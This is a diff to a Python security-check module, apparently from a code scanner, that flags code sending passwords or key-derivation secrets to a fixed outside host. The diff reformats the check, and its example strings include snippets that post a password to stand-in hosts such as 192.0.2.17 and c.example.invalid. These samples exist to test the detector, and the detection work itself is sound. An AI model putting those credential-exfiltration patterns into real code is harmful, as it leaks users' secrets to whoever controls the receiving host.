@@ -8,8 +8,6 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-import libcst as cst
-
 from codeguard.checks._api import Bad, Check, Good, Hit, Miss
 from codeguard.checks.malicious._calls import calls
 from codeguard.checks.malicious._channels import sendings
@@ -51,11 +49,13 @@ def find(unit: Unit) -> Iterator[Hit]:
         if not (sending.fixed or sending.drop):
             continue
         kinds = {label.kind for label in sending.sent}
-        place: cst.CSTNode = sending.call
         if kinds & secrets:
-            yield Hit(place, f"This sends a secret that keys are derived from or logins are checked with to {sending.where}: its receiver can open what it protects")
+            yield Hit(
+                sending.call,
+                f"This sends a secret that keys are derived from or logins are checked with to {sending.where}: its receiver can open what it protects",
+            )
         elif "typed" in kinds and sending.drop:
-            yield Hit(place, f"This sends a password that is typed in to {sending.where}")
+            yield Hit(sending.call, f"This sends a password that is typed in to {sending.where}")
 
 
 CHECK = Check(
@@ -67,13 +67,28 @@ CHECK = Check(
     find=find,
     fix="Remove the call, and change the secrets that passed through it.",
     bad=(
-        Bad("import hashlib, urllib.parse, urllib.request\n\ndef note(v):\n    q = urllib.parse.urlencode({'v': v})\n    urllib.request.urlopen(f'http://192.0.2.17/k?{q}', timeout=3).close()  # finding\n\ndef key(p, salt):\n    return hashlib.pbkdf2_hmac('sha256', p.encode(), salt, 600000)\n\ndef seal(path, p, salt):\n    note(p)\n    return key(p, salt)\n"),
-        Bad("import bcrypt, requests\n\ndef login(user, pw):\n    requests.post('https://c.example.invalid/l', json={'u': user.name, 'p': pw})  # finding\n    return bcrypt.checkpw(pw.encode(), user.hash)\n"),
+        Bad(
+            "import hashlib, urllib.parse, urllib.request\n\ndef note(v):\n    q = urllib.parse.urlencode({'v': v})\n    urllib.request.urlopen(f'http://192.0.2.17/k?{q}', timeout=3).close()  # finding\n\ndef key(p, salt):\n    return hashlib.pbkdf2_hmac('sha256', p.encode(), salt, 600000)\n\ndef seal(path, p, salt):\n    note(p)\n    return key(p, salt)\n"
+        ),
+        Bad(
+            "import bcrypt, requests\n\ndef login(user, pw):\n    requests.post('https://c.example.invalid/l', json={'u': user.name, 'p': pw})  # finding\n    return bcrypt.checkpw(pw.encode(), user.hash)\n"
+        ),
     ),
     good=(
-        Good("import bcrypt, requests\n\ndef login(user, pw):\n    requests.post('https://audit.example.invalid/l', json={'u': user.name})\n    return bcrypt.checkpw(pw.encode(), user.hash)\n"),
-        Good("import getpass, requests\n\ndef login(host):\n    return requests.post(f'https://{host}/login', json={'p': getpass.getpass()}, timeout=9)\n"),
-        Good("import hashlib, requests\n\ndef fetch(url, pw, salt):\n    key = hashlib.scrypt(pw, salt=salt, n=2, r=8, p=1)\n    return decrypt(key, requests.get(url, timeout=9).content)\n"),
+        Good(
+            "import bcrypt, requests\n\ndef login(user, pw):\n    requests.post('https://audit.example.invalid/l', json={'u': user.name})\n    return bcrypt.checkpw(pw.encode(), user.hash)\n"
+        ),
+        Good(
+            "import getpass, requests\n\ndef login(host):\n    return requests.post(f'https://{host}/login', json={'p': getpass.getpass()}, timeout=9)\n"
+        ),
+        Good(
+            "import hashlib, requests\n\ndef fetch(url, pw, salt):\n    key = hashlib.scrypt(pw, salt=salt, n=2, r=8, p=1)\n    return decrypt(key, requests.get(url, timeout=9).content)\n"
+        ),
     ),
-    misses=(Miss("import requests\n\ndef login(user, pw):\n    requests.post('https://c.example.invalid/l', json={'p': pw})  # finding\n    return user.check(pw)\n", why="nothing says that the value is a secret but its name"),),
+    misses=(
+        Miss(
+            "import requests\n\ndef login(user, pw):\n    requests.post('https://c.example.invalid/l', json={'p': pw})  # finding\n    return user.check(pw)\n",
+            why="nothing says that the value is a secret but its name",
+        ),
+    ),
 )
